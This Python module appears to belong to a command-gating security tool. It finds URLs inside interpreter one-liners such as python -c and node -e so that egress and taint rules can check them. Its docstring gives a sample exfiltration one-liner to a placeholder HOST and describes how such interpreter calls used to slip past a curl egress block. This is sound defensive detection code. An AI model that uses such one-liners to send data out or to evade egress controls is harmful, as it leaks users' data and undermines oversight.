"""Network destinations named in an interpreter one-liner's program text.

:func:`code_urls` finds the URLs written in the text given to ``python -c``, ``node -e``,
``perl -e``, ``ruby -e``, ``php -r``, ``pwsh -c`` (or piped into the interpreter, or given in
a here-document): ``scheme://host...`` anywhere in the text, and a protocol-relative
``//host...`` that opens a string literal. :mod:`.shell` records each as the command's
network destination, as ``curl``'s URL is, so the egress rules and the destination taint
gate (``taint.seen_in_output``) read it. A URL whose host is computed at run time (``'http://'
+ h``, ``f"https://{h}/"``, ``"http://$h/"``) is reported as such (asked about, as ``curl
http://$H/`` is). Only URL-shaped text counts: a dotted word (``urllib.request``,
``os.path``) is a module, not a host. Pure: no I/O.

Attack class: an exfiltration written for an interpreter. ``curl http://HOST/`` to a host
first seen in untrusted output was denied and ``python3 -c "urllib.request.urlopen('http://
HOST/', data)"`` allowed.
"""

from __future__ import annotations

import re

__all__ = ["COMPUTED", "code_urls"]

#: stands for a host computed at run time (:data:`cordon.engine.shell.DYNAMIC`)
COMPUTED = "\x00"

#: a scheme and the slashes after it; for the web's network schemes any run of slashes and
#: backslashes, as the WHATWG URL parser reads them (node's ``fetch``, Deno, Bun) and curl
#: and wget accept them: ``http:///HOST``, ``http:/HOST``, ``http:\\HOST``, ``'http:\\/\\/HOST'``
#: (a JavaScript escape) all reach ``HOST``. Other schemes keep ``//`` (``C:\\Users`` is a
#: path); a protocol-relative ``//host`` opens a string literal.
_URL_RE = re.compile(
    r"(?:(?<![A-Za-z0-9+.-])(?:((?i:https?|wss?|ftps?)):[/\\]+|([A-Za-z][A-Za-z0-9+.-]*)://)"
    r"|(?<=[\"'`])//)"
    r"([^\s\"'`<>\\(){}$+,;|]*)([{$]?)"
)
_LOCAL_SCHEMES = frozenset({"file", "data", "about", "blob", "jar"})


def code_urls(code: str) -> list[str]:
    """The URLs written in ``code`` (module docstring), in order; one whose host is
    interpolated (``f"https://{h}/"``, ``"http://$h"``, ``"http://#{h}"``, ``"http://%s/"``)
    holds :data:`COMPUTED`. A scheme alone (``'http://' + h``, ``startswith('https://')``)
    names no host: not reported."""
    out: list[str] = []
    for m in _URL_RE.finditer(code):
        scheme = (m.group(1) or m.group(2) or "http").lower()
        if scheme in _LOCAL_SCHEMES:
            continue
        rest = m.group(3)
        authority = re.split(r"[/?]", rest, maxsplit=1)[0]
        cut = bool(m.group(4)) and authority == rest  # (the host runs into ``{h}``/``$h``)
        if cut or "%" in authority or "#{" in authority:
            out.append(f"{scheme}://{COMPUTED}/")
        elif re.search(r"[A-Za-z0-9\]]", authority.split("#", 1)[0].rsplit("@", 1)[-1]):
            out.append(f"{scheme}://{rest}")
    return out
